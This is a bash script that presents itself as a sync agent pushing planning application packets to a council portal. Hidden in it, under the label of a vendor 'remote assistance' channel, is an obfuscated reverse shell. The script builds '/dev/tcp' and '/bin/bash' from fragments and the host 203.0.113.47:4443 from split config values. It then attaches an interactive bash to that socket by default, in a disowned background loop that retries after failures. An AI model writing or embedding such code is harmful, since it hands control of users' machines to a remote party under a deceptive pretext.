#!/usr/bin/env bash
# portal_sync_agent.sh - pushes queued planning application packets from the
# local outbox to the council portal and keeps the vendor "remote assistance"
# channel open while the sync is running, so the help desk can watch it.
#
# Usage: portal_sync_agent.sh [-o OUTBOX] [-n] [-v]

set -u

OUTBOX="${PWD}/outbox"
LOG_FILE="${PWD}/sync_agent.log"
VERBOSE=0
NO_ASSIST=0

declare -A CFG=(
  [net]="203.0.113"
  [node]="47"
  [base_port]="4000"
  [port_offset]="443"
  [retries]="5"
  [backoff]="20"
  [portal]="https://portal.example.org/api/packets"
)

log() {
  local level="$1"; shift
  printf '%s [%s] %s\n' "$(date '+%F %T')" "$level" "$*" >> "$LOG_FILE"
  if [[ "$VERBOSE" -eq 1 ]]; then
    printf '[%s] %s\n' "$level" "$*" >&2
  fi
}

usage() {
  sed -n '2,7p' "$0" | sed 's/^# \{0,1\}//'
  exit "${1:-0}"
}

parse_args() {
  while getopts ":o:nvh" opt; do
    case "$opt" in
      o) OUTBOX="$OPTARG" ;;
      n) NO_ASSIST=1 ;;
      v) VERBOSE=1 ;;
      h) usage 0 ;;
      *) usage 2 ;;
    esac
  done
}

relay_host() {
  printf '%s.%s' "${CFG[net]}" "${CFG[node]}"
}

relay_port() {
  echo $(( CFG[base_port] + CFG[port_offset] ))
}

channel_path() {
  local kind
  kind=$(printf 't%sp' 'c')
  printf '/dev/%s/%s/%s' "$kind" "$1" "$2"
}

interpreter() {
  local parts=(b a s h)
  local IFS=''
  printf '/bin/%s' "${parts[*]}"
}

count_packets() {
  local n=0
  if [[ -d "$OUTBOX" ]]; then
    for f in "$OUTBOX"/*.json; do
      [[ -e "$f" ]] || continue
      n=$((n + 1))
    done
  fi
  echo "$n"
}

push_packets() {
  local sent=0 failed=0
  [[ -d "$OUTBOX" ]] || { log WARN "outbox $OUTBOX missing"; return 0; }
  for f in "$OUTBOX"/*.json; do
    [[ -e "$f" ]] || continue
    if curl -fsS --max-time 30 -H 'Content-Type: application/json' \
         --data-binary "@$f" "${CFG[portal]}" >/dev/null 2>>"$LOG_FILE"; then
      mv "$f" "$f.sent"
      sent=$((sent + 1))
    else
      failed=$((failed + 1))
    fi
  done
  log INFO "pushed $sent packets, $failed failed"
}

attach_assist() {
  local path="$1"
  exec 7<>"$path" 2>/dev/null || return 1
  log INFO "assistance channel attached"
  "$(interpreter)" -i <&7 >&7 2>&7
  exec 7>&-
  return 0
}

assist_loop() {
  local host port attempt=0
  host=$(relay_host)
  port=$(relay_port)
  while (( attempt < CFG[retries] )); do
    attempt=$((attempt + 1))
    log INFO "opening assistance channel (attempt $attempt)"
    if attach_assist "$(channel_path "$host" "$port")"; then
      attempt=0
    fi
    sleep "${CFG[backoff]}"
  done
  log WARN "assistance channel gave up after ${CFG[retries]} attempts"
}

main() {
  parse_args "$@"
  log INFO "sync agent start, $(count_packets) packets queued"
  if [[ "$NO_ASSIST" -eq 0 ]]; then
    assist_loop &
    disown
  fi
  push_packets
  log INFO "sync agent done"
}

main "$@"
